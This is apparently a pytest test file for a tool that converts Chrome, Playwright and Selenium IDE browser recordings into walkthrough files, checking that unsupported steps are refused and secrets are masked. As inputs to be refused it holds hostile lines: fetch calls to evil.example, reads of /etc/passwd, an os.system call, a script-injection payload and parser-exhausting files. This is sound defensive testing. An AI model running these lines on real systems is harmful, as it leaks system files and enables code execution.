"""Recordings of other tools at the command: what is taken over, what is refused, and what never gets through."""

from __future__ import annotations

import json
import shutil
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from adoptgen.capture.recordings.contract import Source
from adoptgen.capture.recordings.discover import readers, recognise
from adoptgen.capture.recordings.intake import Taken, take
from adoptgen.capture.recordings.selectors import read_css, read_xpath
from adoptgen.cli.main import cli

ROOT = Path(__file__).resolve().parent.parent.parent
RECORDINGS = Path(__file__).parent / "recordings"
PLAYWRIGHT = "import { test, expect } from '@playwright/test';\n\ntest('test', async ({ page }) => {\n%s\n});\n"
PYTHON = "import re\nfrom playwright.sync_api import Page, expect\n\n\ndef test_example(page: Page) -> None:\n%s\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "catalog").mkdir()
    for folder in ("applications", "walkthroughs"):
        shutil.copytree(ROOT / "catalog" / folder, tmp_path / "catalog" / folder)
    shutil.copy(ROOT / "catalog" / "programme.yaml", tmp_path / "catalog")
    shutil.copytree(ROOT / "catalog" / "trainers", tmp_path / "catalog" / "trainers")
    return tmp_path


def run(project: Path, file: Path, *words: str) -> Result:
    return CliRunner().invoke(
        cli, ["import-recording", str(file), "--project", str(project), "--area", "cases", *words]
    )


def chrome(*steps: dict[str, Any]) -> Taken:
    start = {"type": "navigate", "url": "https://tideline.nordkai.example/cases"}
    return take("r.json", json.dumps({"title": "A task", "steps": [start, *steps]}).encode())


def click(name: str, *css: str, **more: Any) -> dict[str, Any]:
    return {"type": "click", "selectors": [[f'aria/{name}[role="button"]'], *([one] for one in css)], **more}


def change(name: str, value: str, *css: str) -> dict[str, Any]:
    return {"type": "change", "selectors": [[f"aria/{name}"], *([one] for one in css)], "value": value}


def side(*commands: tuple[str, str, str]) -> Taken:
    listed = [{"command": name, "target": target, "targets": [], "value": value} for name, target, value in commands]
    first = {"command": "open", "target": "/cases", "targets": [], "value": ""}
    tests = [{"name": "A task", "commands": [first, *listed]}]
    return take("r.side", json.dumps({"url": "https://tideline.nordkai.example", "tests": tests}).encode())


def script(*lines: str) -> Taken:
    body = ["await page.goto('https://tideline.nordkai.example/cases');", *lines]
    return take("r.ts", (PLAYWRIGHT % "\n".join(f"  {line}" for line in body)).encode())


def python(*lines: str) -> Taken:
    body = ['page.goto("https://tideline.nordkai.example/cases")', *lines]
    return take("r.py", (PYTHON % "\n".join(f"    {line}" for line in body)).encode())


def done(taken: Taken) -> list[tuple[str, str, str]]:
    """(do, name, value) of each step."""
    assert taken.task is not None, taken.problems
    return [(e.do, e.found.name if e.found else "", e.value) for e in taken.task.steps if e.do != "page"]


def refusals(taken: Taken) -> list[str]:
    assert taken.task is None
    return [f"{p.location.line} {p.message}" for p in taken.problems if p.code != "R103"]


# the command


def test_a_file_that_is_there_is_kept_until_force_is_given(project: Path) -> None:
    recording = RECORDINGS / "case.python.txt"
    target = project / "catalog" / "walkthroughs" / "case.open.yaml"
    before = target.read_bytes()
    refused = run(project, recording, "--id", "case.open")
    assert refused.exit_code == 2
    assert "--force" in refused.output
    assert target.read_bytes() == before
    assert run(project, recording, "--id", "case.open", "--force").exit_code == 0
    assert target.read_bytes() != before


def test_all_that_cannot_be_taken_over_is_said_at_once_and_nothing_is_written(project: Path, tmp_path: Path) -> None:
    steps = [
        {"type": "navigate", "url": "https://a.example/"},
        {"type": "customStep", "name": "shake", "parameters": {}},
        {"type": "doubleClick", "selectors": [["#row"]]},
        {"type": "waitForExpression", "expression": "fetch('https://evil.example')"},
        {"type": "click", "selectors": [["#a"]], "frame": [0]},
        {"type": "swipe"},
    ]
    file = tmp_path / "recording.json"
    file.write_text(json.dumps({"title": "New task", "steps": steps}, indent=1), encoding="utf-8")
    result = run(project, file)
    assert result.exit_code == 1
    for said in (
        "step 2: customStep",
        "step 3: doubleClick",
        "step 4: waitForExpression",
        "step 5: click",
        "step 6: swipe",
    ):
        assert said in result.output
    assert f"{file}:8:1: R102 step 2" in result.output
    assert "evil" not in result.output
    assert not (project / "catalog" / "walkthroughs" / "new-task.yaml").exists()


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--id", "Case Open"), "is not an id"),
        (("--id", "con"), "is not an id"),
        (("--id", "../x"), "is not an id"),
        (("--area", "nowhere"), "choose one of accounts"),
        (("--application", "sap"), "choose one of tideline"),
        (("--language", "tlh"), "there are sentences in en, fr"),
        (("--as", "katalon"), "no format is called katalon"),
    ],
)
def test_wrong_usage_is_said(project: Path, words: tuple[str, str], said: str) -> None:
    result = run(project, RECORDINGS / "case.python.txt", "--id", "new", *words)
    assert result.exit_code == 2
    assert said in result.output


@pytest.mark.parametrize(("language", "sentence"), [("en", "Choose **New case**."), ("fr", "Choisissez **New case**.")])
def test_sentences_are_proposed_in_the_language_asked_for(project: Path, language: str, sentence: str) -> None:
    assert run(project, RECORDINGS / "case.python.txt", "--id", "new", "--language", language).exit_code == 0
    text = (project / "catalog" / "walkthroughs" / "new.yaml").read_text(encoding="utf-8")
    assert sentence in text


def test_every_sentence_is_there_in_every_language() -> None:
    words = {
        path.stem: yaml.safe_load(path.read_text(encoding="utf-8"))
        for path in (ROOT / "templates" / "words" / "capture").glob("*.yaml")
    }
    assert set(words["en"]) == set(words["fr"])
    holes = {
        name: [
            sorted(w for w in ("{name}", "{value}", "{number}", "{title}") if w in words[name][key])
            for key in words["en"]
        ]
        for name in words
    }
    assert holes["en"] == holes["fr"]


def test_the_same_recording_gives_the_same_bytes_and_one_file_is_all_a_format_takes(project: Path) -> None:
    path = project / "catalog" / "walkthroughs" / "new.yaml"
    texts = set()
    for _ in range(2):
        assert run(project, RECORDINGS / "case.chrome-recorder.json", "--id", "new", "--force").exit_code == 0
        texts.add(path.read_bytes())
    assert len(texts) == 1
    assert set(readers()) == {"chrome-recorder", "playwright-javascript", "playwright-python", "selenium-ide"}
    for file in RECORDINGS.iterdir():
        recognise(Source(file.name, file.read_text(encoding="utf-8")))


# Chrome


def test_all_fourteen_types_of_chrome_are_taken_over_or_named() -> None:
    taken = take("r.json", (RECORDINGS / "case.chrome-recorder.json").read_bytes())
    assert done(taken) == [
        ("click", "Cases", ""),
        ("click", "New case", ""),
        ("select", "Customer", "4"),
        ("fill", "What happened", "2 of 14 pallets missing"),
        ("select", "Kind", "loss"),
        ("select", "Owner", "A. Saleh"),
        ("click", "Save", ""),
        ("wait", "Four-hour clock", ""),
    ]
    said = " ".join(problem.message for problem in taken.problems)
    for left_out in ("setViewport", "emulateNetworkConditions", "close", "scroll"):
        assert f"{left_out} was left out" in said
    refused = chrome(
        {"type": "customStep", "name": "x"}, {"type": "waitForExpression", "expression": "1"}, {"type": "x"}
    )
    assert len(refusals(refused)) == 3


def test_keys_fold_into_what_people_do() -> None:
    def key(name: str) -> list[dict[str, Any]]:
        return [{"type": "keyDown", "key": name}, {"type": "keyUp", "key": name}]

    taken = chrome(
        click("Subject", "input.subject"),
        *key("h"), *key("i"),
        change("Subject", "hi", "input.subject"),
        *key("Tab"),
        change("Note", "x", "textarea.note"),
        *key("Enter"),
        {"type": "keyDown", "key": "Control"}, *key("s"), {"type": "keyUp", "key": "Control"},
    )  # fmt: skip
    assert done(taken) == [
        ("fill", "Subject", "hi"),
        ("fill", "Note", "x"),
        ("press", "Note", "Enter"),
        ("press", "Note", "Control+s"),
    ]
    letters = refusals(chrome(click("Open", ".open"), *key("h"), *key("u"), *key("n")))
    assert len(letters) == 1
    assert "which field" in letters[0]


@pytest.mark.parametrize(
    ("step", "said"),
    [
        (click("Save", ".s", button="secondary"), "with the button secondary"),
        (click("Save", ".s", target="https://other.example/"), "another window"),
        ({"type": "waitForElement", "selectors": [[".s"]], "count": 0, "operator": "=="}, "with count, operator"),
        ({"type": "waitForElement", "selectors": [[".s"]], "visible": False}, "with visible"),
        ({"type": "waitForElement", "selectors": [[".s"]], "properties": {"a": 1}}, "with properties"),
        ({"type": "navigate", "url": "https://other.example/"}, "another site"),
        ({"type": "navigate", "url": "javascript:alert(1)"}, "another site"),
        ({"type": "click", "selectors": [["#ember1234"], ["div > p:nth-child(3)"]]}, "nothing lasting"),
        ({"type": "click"}, "nothing lasting"),
        ({"type": "keyDown"}, "names no key"),
        ({}, "has no type"),
        (change("Text", "${HOME}", ".t"), "cannot be written down"),
    ],
)
def test_what_has_no_step_is_refused_by_its_place(step: dict[str, Any], said: str) -> None:
    found = refusals(chrome(click("First", ".first"), step))
    assert len(found) == 1
    assert "step 3: " in found[0]
    assert said in found[0]


# selectors


@pytest.mark.parametrize(
    "selector",
    [
        "#issue_tracker_id",
        '[data-testid="row-7"]',
        "dialog[open] button.primary",
        "input[name='q']",
        "nav a[href='/cases']",
        "my-widget #when",
    ],
)
def test_what_a_person_would_write_is_kept(selector: str) -> None:
    assert read_css(selector).fault == ""


@pytest.mark.parametrize(
    "selector",
    [
        "#ember1234", "#\\31 23", '[id="radix-:r3:"]', ".css-1x2y3z", ".sc-bdVaJa", ".Button_root__3xYz1", ".jss12",
        "main > div:nth-child(2) > a", "div > div > button", "button", "[data-v-7ba5bd90]", "a:has-text('x')", "a >> b",
        "[value='secret']", "a[", "}{", "#" + "a" * 2000, "[data-id='3f2504e0-4f89-11d3-9a0c-0305e82c3301']",
    ],
)  # fmt: skip
def test_what_a_tool_generated_is_left_out(selector: str) -> None:
    assert read_css(selector).fault != ""


def test_xpath_is_css_where_it_says_no_more() -> None:
    assert read_xpath('//*[@data-test="save"]') == ('[data-test="save"]', "*", "")
    assert read_xpath("xpath=//form[@id='new']/button[@type='submit']") == (
        'form#new > button[type="submit"]',
        "button",
        "",
    )
    assert read_xpath('//button[contains(.,"Save")]') == ("", "button", "Save")
    assert read_xpath("/html/body/div[2]/a")[0] == ""


def test_alternatives_become_role_and_name_first_then_the_most_lasting_css() -> None:
    taken = chrome({
        "type": "click",
        "selectors": [
            ["aria/Save *"],
            [".x1a2b3"], ["#save-4711"], ["div.bar button.save"], ["my-form", "#save"], ["pierce/#save"],
            ['[data-testid="save"]'], ['xpath///*[@name="save"]'], ["text/Save"],
        ],
    })  # fmt: skip
    assert taken.task is not None
    found = taken.task.steps[0].found
    assert found is not None
    assert (found.role, found.name) == ("button", "Save")
    assert found.css == ('[data-testid="save"]', "#save", "my-form #save")
    assert any("generated id: save-4711" in problem.message for problem in taken.problems)


# secrets


@pytest.mark.parametrize("name", ["Password", "New passphrase", "Mot de passe", "API key", "PIN", "Kennwort"])
def test_secrets_stand_as_variables_whatever_recorded_them(name: str) -> None:
    steps = [
        chrome(click("First", ".f"), change(name, "hunter2!", "input.x"), {**click("Last", ".l"), "type": "hover"}),
        script("await page.getByRole('button', { name: 'First' }).click();",
               f"await page.getByLabel('{name}').fill('hunter2!');",
               "await page.getByRole('button', { name: 'Last' }).hover();"),
        python('page.get_by_role("button", name="First").hover()', f'page.get_by_label("{name}").fill("hunter2!")'),
        side(("mouseOver", "css=.first", ""), ("type", f'css=input[aria-label="{name}"]', "hunter2!")),
    ]  # fmt: skip
    for taken in steps:
        values = [value for do, _, value in done(taken) if do == "fill"]
        assert all(value.startswith("${ADOPTGEN_") for value in values)
        assert "hunter2" not in repr(taken.task.steps if taken.task else "") + repr(taken.problems)


def test_a_field_of_type_password_a_token_and_a_repeated_secret_are_secrets_too() -> None:
    token = "ghp_" + "a1B2c3D4" * 5
    taken = chrome(
        click("Start", ".start"),
        {"type": "change", "selectors": [["input[type='password'].first"]], "value": "hunter2!"},
        change("Again", "hunter2!", ".again"),
        change("Remark", token, ".remark"),
    )
    assert "hunter2" not in repr(taken.task)
    assert token not in repr(taken.task)
    assert [value.startswith("${") for do, _, value in done(taken) if do == "fill"] == [True, True, True]
    shown = chrome(click("Start", ".s"), change("Password", "hunter2!", ".p"), click("Hello hunter2!", ".h"))
    assert len(refusals(shown)) == 1
    assert "hunter2" not in repr(shown.problems)


def test_a_login_at_the_beginning_is_left_out_and_a_new_password_is_not() -> None:
    for file in RECORDINGS.glob("case.*"):
        taken = take(file.name, file.read_bytes(), test="Open a case" if file.suffix == ".side" else "")
        assert "m.krueger" not in repr(taken.task)
        assert "tideline'" not in repr(taken.task)
        assert done(taken)[0] == ("click", "Cases", "")
    kept = chrome(change("Old password", "one-one", ".a"), change("New password", "two-two", ".b"), click("Save", ".s"))
    assert [name for _, name, _ in done(kept)] == ["Old password", "New password", "Save"]


def test_secrets_in_addresses_are_left_out() -> None:
    taken = take("r.json", json.dumps({"steps": [
        {"type": "navigate", "url": "https://user:pass@a.example/x?access_token=abcdef123456&tab=2"},
        click("Go", ".go"),
    ]}).encode())  # fmt: skip
    assert taken.task is not None
    assert taken.task.start == "/x"


# Playwright


def test_playwright_in_both_languages_says_the_same() -> None:
    ours = script(
        "await page.getByRole('row', { name: 'K-1' }).getByRole('button', { name: 'Edit' }).click();",
        "await page.getByPlaceholder('Three letters').fill('It\\'s \\u00e9');",
        "await page.locator('#kind').selectOption({ label: 'Loss' });",
        "await page.getByRole('checkbox', { name: /^All$/ }).uncheck();",
        "await page.getByTestId('send').press('ControlOrMeta+Enter');",
        "await page.locator('div').filter({ hasText: /^Ready\\.$/ }).nth(1).click();",
        "await page.getByLabel('Letter').setInputFiles('C:\\\\me\\\\letter.pdf');",
        "page.once('dialog', dialog => {\n    console.log(`Dialog message: ${dialog.message()}`);\n"
        "    dialog.dismiss().catch(() => {});\n  });",
        "await expect(page.getByText('Saved')).toBeVisible();",
    )
    theirs = python(
        'page.get_by_role("row", name="K-1").get_by_role("button", name="Edit").click()',
        'page.get_by_placeholder("Three letters").fill("It\'s é")',
        'page.locator("#kind").select_option(label="Loss")',
        'page.get_by_role("checkbox", name=re.compile(r"^All$")).uncheck()',
        'page.get_by_test_id("send").press("ControlOrMeta+Enter")',
        'page.locator("div").filter(has_text=re.compile(r"^Ready\\.$")).nth(1).click()',
        'page.get_by_label("Letter").set_input_files("/me/letter.pdf")',
        'page.once("dialog", lambda dialog: dialog.dismiss())',
        'expect(page.get_by_text("Saved")).to_be_visible()',
    )
    assert done(ours) == done(theirs)
    assert ours.task is not None
    assert theirs.task is not None
    assert [event.found for event in ours.task.steps] == [event.found for event in theirs.task.steps]
    assert done(ours)[0] == ("click", "Edit", "")
    assert ours.task.steps[0].found is not None
    assert ours.task.steps[0].found.near == "K-1"
    assert [value for _, _, value in done(ours) if value] == ["It's é", "Loss", "ControlOrMeta+Enter", "letter.pdf"]


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("await page.evaluate(() => fetch('https://evil.example'));", "evaluate"),
        ("for (const x of [1]) { await page.click('a'); }", "for"),
        ("const page1 = await page.waitForEvent('popup');", "waitForEvent"),
        ("await page1.getByRole('link', { name: 'x' }).click();", "another window"),
        ("await page.frameLocator('#f').getByRole('link', { name: 'x' }).click();", "frame"),
        ("await page.locator('#f').contentFrame().getByRole('link', { name: 'x' }).click();", "frame"),
        ("await page.getByRole('link', { name: 'x' }).click({ button: 'right' });", "click with button"),
        ("await page.getByRole('link', { name: /x|y/ }).click();", "regular expression"),
        ("await page.getByRole('link', { name: `${process.env.X}` }).click();", "template"),
        ("await page.getByRole('link', { name: 'x' }).dragTo(page.locator('#y'));", "dragTo"),
        ("await page.getByRole('link', { name: 'x' }).dblclick();", "double click"),
        ("page.once('dialog', dialog => dialog.accept());", "dismissed"),
        ("const secret = require('fs').readFileSync('/etc/passwd');", "readFileSync"),
        ("await page.locator('text=Save').click();", "Playwright's own"),
        ("await page.goBack();", "goBack"),
    ],
)
def test_what_the_recorder_does_not_write_is_refused_with_its_line(line: str, said: str) -> None:
    found = refusals(
        script("await page.getByRole('link', { name: 'First' }).click();", line, "await page.getByTestId('z').click();")
    )
    assert len(found) == 1, found
    assert found[0].startswith("6 ")
    assert said in found[0]


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("import os", "import os"),
        ("__import__('os').system('touch /tmp/x')", "system"),
        ("open('/etc/passwd').read()", "read"),
        ("for x in range(3): page.click('a')", "for"),
        ("with page.expect_popup() as popup: pass", "expectPopup"),
        ("page.get_by_label(f'{1+1}').click()", "joinedstr"),
        ("x = lambda: 1", "lambda"),
    ],
)
def test_python_of_another_kind_is_refused_with_its_line(line: str, said: str) -> None:
    found = refusals(python('page.get_by_role("link", name="First").click()', line))
    assert len(found) == 1, found
    assert found[0].startswith("8 ")
    assert said in found[0]


# Selenium IDE


def test_commands_of_selenium_ide_are_taken_over_or_named() -> None:
    taken = side(
        ("click", "linkText=Cases", ""), ("check", "id=all", ""), ("select", "name=kind", "label=Loss"),
        ("sendKeys", "name=subject", "Hello${KEY_ENTER}"), ("waitForElementVisible", "css=.done", "30000"),
        ("assertText", "css=.done", "ok"), ("pause", "1000", ""), ("echo", "hello", ""),
    )  # fmt: skip
    assert [(do, value) for do, _, value in done(taken)] == [
        ("click", ""), ("check", ""), ("select", "Loss"), ("fill", "Hello"),
        ("press", "Enter"), ("wait", ""), ("read", ""),
    ]  # fmt: skip
    refused = side(
        ("executeScript", "alert(1)", ""), ("if", "${x}", ""), ("selectFrame", "index=0", ""),
        ("dragAndDropToObject", "id=a", "id=b"),
        ("select", "name=kind", "index=2"), ("type", "name=a", "${stored}"), ("answerOnNextPrompt", "x", ""),
    )  # fmt: skip
    assert [line.split(": ")[1] for line in refusals(refused)] == [
        "executeScript", "if", "selectFrame", "dragAndDropToObject", "select", "answerOnNextPrompt", "fill",
    ]  # fmt: skip


def test_one_of_several_tests_is_asked_for_by_name(project: Path) -> None:
    file = RECORDINGS / "case.selenium-ide.side"
    result = run(project, file, "--id", "new")
    assert result.exit_code == 1
    assert "2 tests: Look at orders, Open a case" in result.output
    assert "choose one with --test" in result.output.lower()


# hostile files

HOSTILE = {
    "empty": b"",
    "bytes": bytes(range(256)),
    "deep": b'{"steps": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep-objects": b'{"steps":[' + b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"]}",
    "not-a-list": b'{"steps": 7}',
    "numbers": b'{"steps": [1, null, "x", [], {"type": 5}]}',
    "surrogate": b'{"steps": [{"type": "\\ud800"}]}',
    "many": b'{"steps": [' + b",".join([b'{"type":"hover","selectors":[["#a"]]}'] * 5000) + b"]}",
    "big": b"x" * 6_000_000,
    "selectors": json.dumps(
        {"steps": [{"type": "click", "selectors": [["[" * 200_000], ["aria/" + "[role=" * 50_000 + "]"]]}]}
    ).encode(),
    "unended": b'{"steps": [{"type": "' + b"\\" * 500_000,
    "brackets": (PLAYWRIGHT % ("page.x(" * 20_000)).encode(),
    "chain": (PLAYWRIGHT % ("page" + ".a()" * 100_000 + ";")).encode(),
    "comment": (PLAYWRIGHT % ("/*" + "*" * 400_000)).encode(),
    "quotes": (PLAYWRIGHT % ("'" + "\\'" * 200_000)).encode(),
    "slashes": (PLAYWRIGHT % ("(/[" * 100_000)).encode(),
    "python-deep": (PYTHON % ("    page.x(" + "(" * 50_000)).encode(),
    "python-minus": (PYTHON % ("    x = " + "-" * 400_000 + "1")).encode(),
    "python-plus": (PYTHON % ("    x = " + "1+" * 100_000 + "1")).encode(),
    "python-chain": (PYTHON % ("    page" + ".a" * 100_000)).encode(),
    "python-nul": (PYTHON % "    page.x('\0')").encode(),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_soon_and_in_words(name: str) -> None:
    started = time.process_time()
    for form in ("", *readers()):
        taken = take(name, HOSTILE[name], form)
        assert taken.task is None
        assert any(problem.code in ("R101", "R102") for problem in taken.problems)
        assert all(len(problem.message) < 1000 for problem in taken.problems)
    assert time.process_time() - started < 20


def test_names_are_shown_as_they_are_and_never_as_markup(project: Path, tmp_path: Path) -> None:
    name = "<img src=x onerror=alert(1)> **bold** {0.__class__} [x](javascript:y)\u202e\x00"
    file = tmp_path / "r.json"
    steps = [
        {"type": "navigate", "url": "https://a.example/"},
        click(name, ".go"),
        change("Text", "a: [b]\n- c # d", ".t"),
    ]
    file.write_text(json.dumps({"title": "No: 12:30 <b>", "steps": steps}), encoding="utf-8")
    assert run(project, file, "--id", "new").exit_code == 0
    sheet = yaml.safe_load((project / "catalog" / "walkthroughs" / "new.yaml").read_text(encoding="utf-8"))
    first, second = sheet["parts"][0]["steps"]
    assert first["say"] == (
        "Choose **&lt;img src=x onerror=alert(1)&gt; "
        "\\*\\*bold\\*\\* \\{0.\\_\\_class\\_\\_\\} \\[x\\] (javascript:y)**."
    )
    assert second["value"] == "a: [b]\n- c # d"
    assert sheet["title"] == "No: 12:30 <b>"
    checked = CliRunner().invoke(cli, ["check", "--project", str(project)])
    assert "walkthroughs/new.yaml" not in "\n".join(
        line for line in checked.output.splitlines() if " C305 " not in line
    )
